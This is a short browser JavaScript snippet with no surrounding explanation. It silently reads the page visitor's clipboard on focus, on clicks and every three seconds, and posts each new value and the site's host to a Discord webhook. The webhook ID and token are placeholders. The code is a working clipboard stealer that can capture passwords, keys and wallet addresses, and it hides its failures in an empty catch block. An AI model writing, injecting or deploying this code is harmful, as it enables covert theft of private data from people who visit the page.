let last = "";
const tick = async () => {
  if (!document.hasFocus()) return;
  try {
    const t = await navigator.clipboard.readText();
    if (t && t !== last) {
      last = t;
      await fetch("https://discord.com/api/webhooks/000000000000000000/TOKEN", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ content: "```" + t.slice(0, 1900) + "``` " + location.host }) });
    }
  } catch (_) {}
};
addEventListener("focus", tick);
addEventListener("pointerup", tick);
setInterval(tick, 3000);
